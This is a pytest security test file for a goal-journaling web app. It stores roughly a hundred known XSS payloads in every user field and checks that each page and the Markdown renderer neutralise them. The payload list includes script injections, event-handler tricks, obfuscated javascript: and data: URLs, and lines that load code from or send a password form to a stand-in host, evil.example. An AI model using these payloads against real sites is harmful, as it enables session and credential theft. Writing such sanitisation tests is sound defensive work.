"""Stored XSS: known payloads in every field users write, checked on every page that shows them.

The payloads go, in a few batches, into each field rendered as Markdown (a goal's why, the
reflection sections, plan revision reasons, attempt notes, check-in texts and notes) and
each field rendered as plain text (goal titles, topics, status reasons, area names, the one-
line reflection sections, quick-log titles and topics, blockers). Each page that shows them
is parsed with html.parser and audited: no script but the app's own, no event handler, no
style, no javascript:/vbscript:/data: URL, no frame, object, embed, base, meta refresh or
foreign form; inside user content (class "prose") only the tags Markdown produces. Plain
text must still be shown, escaped, not dropped. A Hypothesis test feeds generated mixes of
Markdown and HTML straight into render_markdown and audits its output the same way.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from html.parser import HTMLParser

import pytest
from helpers import AuthActions, make_app
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from werkzeug.exceptions import HTTPException

from journal.extensions import db
from journal.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from journal.models import Area, CheckIn, Goal, User

# The app passes SelectField/RadioField choices as tuples, which WTForms 3.3 deprecates.
pytestmark = pytest.mark.filterwarnings(
    "ignore:Passing SelectField choices as tuples is deprecated:DeprecationWarning"
)

YEAR = 2026
TODAY = "2026-01-05"

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script>alert(1)",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # images and event handlers, odd spacing and case
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror  =  alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)",
    '"\'><img src=x onerror=alert(1)>',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>custom</x>",
    '<a href="https://example.org" onclick="alert(1)">mixed</a>',
    # svg and math
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    # styles
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1));">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<table background="javascript:alert(1)"></table>',
    # frames, objects, page-level tags
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=password></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    # raw HTML links
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="javascript&#58;alert(1)">colon entity</a>',
    "<a href='javascript:alert(1)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    # Markdown links, autolinks and images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\x00script:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://example.org/x.png "onerror=alert(1)")',
    '![x" onerror="alert(1)](https://example.org/x.png)',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[ref link][evil]\n\n[evil]: javascript:alert(1)",
    '[ref data][evil2]\n\n[evil2]: data:text/html,<script>alert(1)</script> "t"',
    # quotes in link titles and texts
    '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org 'x\" onclick=\"alert(1)')",
    '[x" onclick="alert(1)](https://example.org)',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    # Markdown constructs wrapped around HTML
    "`<script>alert(1)</script>`",
    "```\n</code><script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>",
    "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
    "# <script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*",
    # null bytes, already-escaped text, template syntax, bare schemes
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x on\x00error=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% raw %}",
    "javascript:alert(1)",
]

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "ping", "srcset", "manifest",
}
NEVER_ALLOWED = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "style", "base", "svg", "math",
    "img", "video", "audio", "source", "portal", "template", "isindex", "marquee",
}
VOID_ELEMENTS = {
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
    "track", "wbr", "param", "keygen", "isindex",
}
PROSE_REL = "noopener noreferrer nofollow"


# --- auditing HTML -------------------------------------------------------------------------


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    in_prose: bool

    def get(self, name: str) -> str | None:
        return next((value for key, value in self.attrs if key == name), None)


class PageParser(HTMLParser):
    """Collects every element (and whether it sits in user content) and the page's text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.texts: list[str] = []
        self.script_texts: list[str] = []
        self.stack: list[tuple[str, bool]] = []  # open elements: (tag, has class "prose")

    @property
    def in_prose(self) -> bool:
        return any(is_prose for _tag, is_prose in self.stack)

    def _record(self, tag: str, attrs) -> Element:
        element = Element(tag, list(attrs), self.in_prose)
        self.elements.append(element)
        return element

    def handle_starttag(self, tag, attrs):
        element = self._record(tag, attrs)
        if tag not in VOID_ELEMENTS:
            classes = (element.get("class") or "").split()
            self.stack.append((tag, "prose" in classes))

    def handle_startendtag(self, tag, attrs):
        self._record(tag, attrs)

    def handle_endtag(self, tag):
        for index in range(len(self.stack) - 1, -1, -1):
            if self.stack[index][0] == tag:
                del self.stack[index:]
                return

    def handle_data(self, data):
        if self.stack and self.stack[-1][0] == "script":
            self.script_texts.append(data)
        self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)


def parse(html: str) -> PageParser:
    parser = PageParser()
    parser.feed(html)
    parser.close()
    return parser


def squeezed(value: str) -> str:
    """A URL as a browser reads its scheme: without whitespace or control characters."""
    return "".join(ch for ch in value if ord(ch) > 0x20 and ord(ch) != 0x7F).lower()


def dangerous_url(value: str | None) -> bool:
    return value is not None and squeezed(value).startswith(DANGEROUS_SCHEMES)


def audit(html: str, is_app_form=lambda action: False) -> list[str]:
    """Everything in `html` a browser could run, load or submit on the attacker's behalf."""
    parser = parse(html)
    problems = [f"inline script: {text!r}" for text in parser.script_texts if text.strip()]
    for element in parser.elements:
        tag, where = element.tag, " in user content" if element.in_prose else ""
        for name, value in element.attrs:
            if name.startswith("on"):
                problems.append(f"<{tag} {name}={value!r}>{where}: an event handler")
            if name in {"style", "srcdoc"}:
                problems.append(f"<{tag} {name}={value!r}>{where}")
            if name in URL_ATTRIBUTES and dangerous_url(value):
                problems.append(f"<{tag} {name}={value!r}>{where}: a dangerous URL")
        if tag in NEVER_ALLOWED and not (is_app_chart(element) and not element.in_prose):
            problems.append(f"<{tag}>{where}")
        if tag == "script" and not (element.get("src") or "").startswith("/static/"):
            problems.append(f"<script src={element.get('src')!r}>{where}")
        if tag == "meta" and element.get("http-equiv") is not None:
            problems.append(f"<meta http-equiv={element.get('http-equiv')!r}>{where}")
        if tag == "link" and not (element.get("href") or "").startswith("/static/"):
            problems.append(f"<link href={element.get('href')!r}>{where}")
        if tag == "form" and (element.in_prose or not is_app_form(element.get("action") or "")):
            problems.append(f"<form action={element.get('action')!r}>{where}: not the app's")
        if element.in_prose:
            problems.extend(audit_user_content(element))
    return problems


APP_CHART = re.compile(r"^/(goals/\d+|years/\d+|summary(/areas/\d+)?)/chart\.svg"
                       r"(\?theme=dark|\?size=narrow|\?theme=dark&size=narrow)?$")


def is_app_chart(element: Element) -> bool:
    """The app's own chart images: an <img src> or <source srcset> of a chart URL."""
    url = element.get("src") if element.tag == "img" else element.get("srcset")
    return element.tag in {"img", "source"} and bool(APP_CHART.match(url or ""))


def audit_user_content(element: Element) -> list[str]:
    """Inside class="prose": only what render_markdown lets through."""
    tag = element.tag
    if tag not in ALLOWED_TAGS:
        return [f"<{tag}> in user content"]
    allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
    problems = [f"<{tag} {name}> in user content"
                for name, _value in element.attrs if name not in allowed]
    if tag == "a":
        href = squeezed(element.get("href") or "")
        scheme = re.match(r"^([a-z][a-z0-9+.-]*):", href)
        if scheme and scheme.group(1) not in {"http", "https", "mailto"}:
            problems.append(f"<a href={element.get('href')!r}> in user content")
        if element.get("rel") != PROSE_REL:
            problems.append(f"<a rel={element.get('rel')!r}> in user content")
    return problems


def app_form_checker(app):
    """True for a form action that is one of the app's own POST endpoints."""
    adapter = app.url_map.bind("localhost")

    def is_app_form(action: str) -> bool:
        if not action.startswith("/") or action.startswith("//"):
            return False
        try:
            adapter.match(action.split("?", 1)[0], method="POST")
        except HTTPException:
            return False
        return True

    return is_app_form


# --- filling every field -------------------------------------------------------------------


def packed(payloads: list[str], limit: int, separator: str = " ") -> list[str]:
    """The payloads joined into as few strings of at most `limit` characters as possible;
    a payload longer than `limit` is left out."""
    chunks, current = [], ""
    for payload in payloads:
        if len(payload) > limit:
            continue
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) <= limit:
            current = candidate
        else:
            chunks.append(current)
            current = payload
    if current:
        chunks.append(current)
    return chunks


BLOCKS = "\n\n".join(PAYLOADS)  # each payload a Markdown block of its own
INLINE = " ".join(PAYLOADS)  # all in one paragraph, interacting with each other
SINGLE_LINE = [payload for payload in PAYLOADS if "\n" not in payload]
TITLES = [chunk.strip() for chunk in packed(PAYLOADS, 200)]
AREA_NAMES = [chunk.strip() for chunk in packed(SINGLE_LINE, 60)]
TOPIC_PAYLOADS = [p for p in SINGLE_LINE if "," not in p and len(p.strip()) <= 40]
KINDS = ("count", "milestone", "habit", "limit")


def stored(text: str) -> str:
    """What the app keeps of typed text: NUL characters are removed on arrival."""
    return text.replace("\x00", "")

# A quick log's link becomes an href: it must start with http(s)://, and its quotes must not
# break out of the attribute.
QUOTED_LINK = 'https://example.org/"><script>alert(1)</script><a onmouseover="alert(1)'
REFUSED_LINKS = [
    "javascript:alert(1)", " JavaScript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/",
    "java\tscript:alert(1)", "&#106;avascript:alert(1)",
]
REFLECTION_SLUGS = ("new-year", "year-end")
MULTILINE_SECTIONS = ("what_happened", "successes", "did_not_work", "learned", "changes")


def goal_form(title: str, kind: str, area_id: int, why: str, topics: list[str]) -> dict:
    return {
        "title": title, "area_id": str(area_id), "kind": kind, "why": why,
        "topics": ", ".join(topics), "start_date": f"{YEAR}-01-01", "end_date": f"{YEAR}-12-31",
        "count_target": "40", "count_unit": "posts", "checkpoints": "",
        "due_date": f"{YEAR}-09-30", "habit_times": "1", "cadence": "week",
        "allowed_skips": "0", "limit_threshold": "5", "limit_unit": "hours",
        "direction": "at_most",
    }


def reflection(payloads_text: str, inline: str) -> dict[str, str]:
    form = {name: (payloads_text if index % 2 == 0 else inline)
            for index, name in enumerate(MULTILINE_SECTIONS)}
    form["tldr"] = packed(SINGLE_LINE, 280)[0]
    form["theme"] = packed(SINGLE_LINE, 80)[1]
    return form


def posted(client, url: str, data: dict, what: str) -> None:
    response = client.post(url, data=data)
    assert response.status_code == 302, f"{what}: answered {response.status_code}"


@dataclass
class Site:
    """The app, a logged-in client, and the ids of everything that carries payloads."""

    app: object
    client: object
    goal_ids: list[int]
    area_ids: list[int]
    checkin_id: int
    titles: dict[int, str]
    topics: dict[int, list[str]]


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    app = make_app(tmp_path_factory.mktemp("xss"), JOURNAL_TODAY=TODAY)
    client = app.test_client()
    assert AuthActions(client).register().status_code == 302
    for index, name in enumerate(AREA_NAMES):
        posted(client, "/areas/", {"name": name, "color": "blue"}, f"area {index} {name!r}")
    for number in (YEAR - 1, YEAR):
        posted(client, "/years/new", {"number": str(number)}, f"start {number}")
    # 2025's year-end shows beside 2026's new-year reflection; 2026's on /years/new?year=2027.
    posted(client, f"/years/{YEAR - 1}/reflection/year-end", reflection(BLOCKS, INLINE),
           "2025 year-end reflection")
    for slug in REFLECTION_SLUGS:
        posted(client, f"/years/{YEAR}/reflection/{slug}", reflection(BLOCKS, INLINE),
               f"{slug} reflection")

    with app.app_context():
        uid = db.session.execute(select(User.id)).scalar_one()
        area_ids = list(db.session.execute(
            # NUL characters are removed from form input on arrival.
            select(Area.id).filter_by(user_id=uid).where(
                Area.name.in_([name.replace("\x00", "") for name in AREA_NAMES])
            )
        ).scalars())
    assert len(area_ids) == len(AREA_NAMES)

    topic_chunks = [TOPIC_PAYLOADS[i:i + 12] for i in range(0, len(TOPIC_PAYLOADS), 12)]
    for index, title in enumerate(TITLES):
        why = (BLOCKS, INLINE)[index % 2] if index < 4 else PAYLOADS[index % len(PAYLOADS)]
        topics = topic_chunks[index] if index < len(topic_chunks) else []
        form = goal_form(title, KINDS[index % 4], area_ids[index % len(area_ids)], why, topics)
        posted(client, f"/years/{YEAR}/goals/new", form, f"goal {index} {title!r}")
    with app.app_context():
        goals = list(db.session.execute(select(Goal).order_by(Goal.id)).scalars())
        goal_ids = [goal.id for goal in goals]
        titles = {goal.id: goal.title for goal in goals}
        topics = {goal.id: list(goal.topics) for goal in goals}
        kinds = {goal.id: goal.kind for goal in goals}
    milestone = next(goal_id for goal_id in goal_ids if kinds[goal_id] == "milestone")
    count = next(goal_id for goal_id in goal_ids if kinds[goal_id] == "count")
    habit = next(goal_id for goal_id in goal_ids if kinds[goal_id] == "habit")

    for note in (BLOCKS, INLINE):
        posted(client, f"/goals/{milestone}/attempts",
               {"attempted_on": TODAY, "outcome": "pending", "note": note}, "attempt")
    for reason in (BLOCKS, INLINE):
        posted(client, f"/goals/{count}/plan",
               {"revised_on": TODAY, "reason": reason, "count_target": "30", "checkpoints": ""},
               "plan revision")
    for goal_id, title, topic in ((count, TITLES[-1], TOPIC_PAYLOADS[0]),
                                  (habit, TITLES[0], TOPIC_PAYLOADS[-1])):
        posted(client, f"/goals/{goal_id}/log",
               {"amount": "1", "title": title, "topic": topic, "link": QUOTED_LINK}, "quick log")
    checkin = {"on": TODAY, "mood": "3", "went_well": BLOCKS, "went_badly": INLINE,
               "next_change": BLOCKS}
    for goal_id, blocker in zip((count, milestone), packed(PAYLOADS, 500), strict=False):
        checkin[f"g{goal_id}_note"] = BLOCKS
        checkin[f"g{goal_id}_blocker"] = blocker
    posted(client, f"/years/{YEAR}/checkins/new?kind=ad-hoc", checkin, "check-in")
    # Dropped last: a dropped goal takes no more attempts, logs or check-in updates.
    posted(client, f"/goals/{goal_ids[1]}/status",
           {"status": "dropped", "on": TODAY, "reason": INLINE}, "dropping a goal")
    posted(client, f"/goals/{goal_ids[2]}/status",
           {"status": "achieved", "on": TODAY, "reason": BLOCKS}, "achieving a goal")
    client.get("/")  # shows, and so clears, the flashed messages of the redirects above
    with app.app_context():
        checkin_id = db.session.execute(select(CheckIn.id)).scalar_one()
    yield Site(app, client, goal_ids, area_ids, checkin_id, titles, topics)
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def page(site: Site, url: str) -> str:
    """GET `url` as the user who wrote the payloads; insist on 200."""
    response = site.client.get(url)
    assert response.status_code == 200, url
    return response.get_data(as_text=True)


def pages(site: Site) -> list[str]:
    """Every page that shows what was written."""
    urls = [
        "/", "/years/", f"/years/{YEAR}", f"/years/{YEAR}/reflection/new-year",
        f"/years/{YEAR}/reflection/year-end", f"/years/new?year={YEAR + 1}",
        f"/years/{YEAR}/delete", "/areas/", f"/checkins/{site.checkin_id}",
        f"/checkins/{site.checkin_id}/edit", f"/checkins/{site.checkin_id}/delete",
        f"/years/{YEAR}/checkins/new?kind=mid-year",
    ]
    urls += [f"/areas/{area_id}/edit" for area_id in site.area_ids]
    for goal_id in site.goal_ids:
        urls += [f"/goals/{goal_id}", f"/goals/{goal_id}/edit", f"/goals/{goal_id}/plan",
                 f"/goals/{goal_id}/delete"]
    return urls


# --- the tests -----------------------------------------------------------------------------


def test_there_are_enough_payloads_and_every_one_is_in_a_title():
    assert len(PAYLOADS) >= 60
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    assert all(any(payload.strip() in title for title in TITLES) for payload in PAYLOADS)
    assert len(AREA_NAMES) >= 20
    assert len(TOPIC_PAYLOADS) >= 20


def test_the_audit_catches_what_it_should():
    """The auditor itself: each of these must be reported."""
    bad = [
        "<script>alert(1)</script>", '<script src="https://evil.example/x.js"></script>',
        "<img src=x onerror=alert(1)>", '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>', '<p style="color:red">x</p>',
        "<iframe></iframe>", '<meta http-equiv="refresh" content="0">', '<base href="/">',
        '<form action="https://evil.example/"></form>', '<div class="prose"><b>x</b></div>',
        '<div class="prose"><a href="https://example.org">no rel</a></div>',
        "<svg></svg>", '<a href="data:text/html,x">x</a>', '<a href="vbscript:x">x</a>',
    ]
    for html in bad:
        assert audit(html), html
    good = ('<script src="/static/js/autosave.js" defer></script>'
            '<div class="prose"><p><a href="https://example.org" '
            f'rel="{PROSE_REL}">x</a></p></div>')
    assert audit(good) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_renders_to_safe_markdown(payload):
    html = str(render_markdown(payload))
    assert audit(f'<div class="prose">{html}</div>') == []


def test_no_page_lets_a_payload_run(site):
    is_app_form = app_form_checker(site.app)
    problems = []
    for url in pages(site):
        problems += [f"{url}: {problem}" for problem in audit(page(site, url), is_app_form)]
    assert not problems, "\n".join(problems)


def test_user_content_is_rendered_in_prose_blocks(site):
    """The audit of user content is not vacuous: the Markdown fields are on the pages."""
    for url in (f"/years/{YEAR}", f"/goals/{site.goal_ids[0]}", f"/checkins/{site.checkin_id}",
                f"/years/new?year={YEAR + 1}", f"/years/{YEAR}/reflection/new-year"):
        parser = parse(page(site, url))
        assert sum(element.in_prose for element in parser.elements) > 20, url


STORED_TITLES = [stored(title) for title in TITLES]


def test_goal_titles_are_shown_as_text(site):
    assert len(site.titles) == len(TITLES)
    year_text = parse(page(site, f"/years/{YEAR}")).text
    dashboard_text = parse(page(site, "/")).text
    for goal_id, title in site.titles.items():
        assert title in STORED_TITLES
        assert title in parse(page(site, f"/goals/{goal_id}")).text, title
        assert title in year_text, title
        assert title in dashboard_text, title


def test_area_names_and_topics_are_shown_as_text(site):
    areas_text = parse(page(site, "/areas/")).text
    for name in AREA_NAMES:
        assert stored(name) in areas_text, name
    shown_topics = 0
    for goal_id, topics in site.topics.items():
        goal_text = parse(page(site, f"/goals/{goal_id}")).text
        for topic in topics:
            assert topic in goal_text, topic
            shown_topics += 1
    assert shown_topics >= len(TOPIC_PAYLOADS) // 2


def test_one_line_reflection_sections_are_shown_as_text(site):
    year_text = parse(page(site, f"/years/{YEAR}")).text
    form = reflection(BLOCKS, INLINE)
    assert form["tldr"].strip() in year_text
    assert form["theme"].strip() in year_text


def test_quick_log_links_are_kept_inside_their_attribute(site):
    goal_text = parse(page(site, f"/goals/{site.goal_ids[0]}"))
    hrefs = [element.get("href") for element in goal_text.elements if element.tag == "a"]
    assert QUOTED_LINK in hrefs


@pytest.mark.parametrize("link", REFUSED_LINKS)
def test_quick_log_links_that_are_not_web_addresses_are_refused(site, link):
    goal_id = site.goal_ids[0]
    response = site.client.post(f"/goals/{goal_id}/log", data={"amount": "1", "link": link})
    assert response.status_code == 422
    hrefs = [element.get("href") for element in parse(page(site, f"/goals/{goal_id}")).elements]
    assert link.strip() not in hrefs


def test_status_reasons_are_shown_as_text(site):
    dropped = parse(page(site, f"/goals/{site.goal_ids[1]}")).text
    assert stored(INLINE).strip() in dropped


# --- generated input -----------------------------------------------------------------------

FRAGMENTS = [
    "[", "]", "(", ")", "](", "![", "<", ">", "</", "/>", "`", "```\n", "*", "_", "#", "> ",
    "- ", "1. ", "|", "|---|", "\n", "\n\n", "\t", " ", '"', "'", "=", "&", "&#", ";", ":",
    "&#106;", "&#x6A;", "&colon;", "\\", "\x00", "javascript:", "JaVaScRiPt:", "vbscript:",
    "data:", "data:text/html,", "alert(1)", "https://example.org", "mailto:a@b.c", "a", "p",
    "script", "img", "svg", "math", "iframe", "style", "on", "onerror", "onload", "href",
    "src", "style=", "href=", "src=x", " onerror=alert(1)", "[x]: ", "<a href=", "<img src=x",
    "<script>", "</script>", "<svg onload=alert(1)>", "<!--", "-->", "<![CDATA[", "~~", "**",
]
generated_text = st.lists(
    st.one_of(st.sampled_from(FRAGMENTS), st.sampled_from(PAYLOADS), st.text(max_size=6)),
    max_size=24,
).map("".join)


@settings(max_examples=200, deadline=None)
@given(generated_text)
def test_generated_markdown_and_html_render_safely(text):
    html = str(render_markdown(text))
    assert audit(f'<div class="prose">{html}</div>') == [], html


# --- null bytes on every database ----------------------------------------------------------

NUL_FIELDS = {
    "area name": ("/areas/", lambda text: {"name": text, "color": "blue"}),
    "reflection section": (
        f"/years/{YEAR}/reflection/new-year", lambda text: {"what_happened": text},
    ),
    "goal title and why": (
        f"/years/{YEAR}/goals/new",
        lambda text: goal_form(text, "milestone", 1, text, []),
    ),
}


def test_null_bytes_never_cause_a_server_error(backend_app):
    """Text with a NUL byte is saved without it, on SQLite and on PostgreSQL alike."""
    backend_app.config["PROPAGATE_EXCEPTIONS"] = False  # a crash answers 500, as in production
    client = backend_app.test_client()
    assert AuthActions(client).register().status_code == 302
    assert client.post("/years/new", data={"number": str(YEAR)}).status_code == 302
    answers = {
        what: client.post(url, data=form(f"before\x00after {what}")).status_code
        for what, (url, form) in NUL_FIELDS.items()
    }
    assert all(status in (302, 422) for status in answers.values()), answers
    with backend_app.app_context():
        from journal.models import Goal

        title = db.session.execute(select(Goal.title)).scalar_one()
    assert title == "beforeafter goal title and why"
